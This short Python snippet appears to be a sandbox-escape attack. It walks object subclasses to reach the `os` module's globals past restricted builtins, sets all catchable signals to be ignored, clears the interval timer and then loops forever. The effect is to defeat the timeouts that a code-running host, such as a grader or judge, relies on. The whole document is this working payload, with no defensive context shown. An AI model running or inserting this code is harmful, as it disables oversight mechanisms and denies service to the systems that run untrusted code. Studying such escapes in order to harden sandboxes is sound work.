# Walks to `signal`, takes all handlers and timers away, then loops.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(n):
    words = _reach()
    signal = words["sys"].modules["builtins"].__import__("_signal")
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (words["error"], ValueError):
            pass
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        n += 1
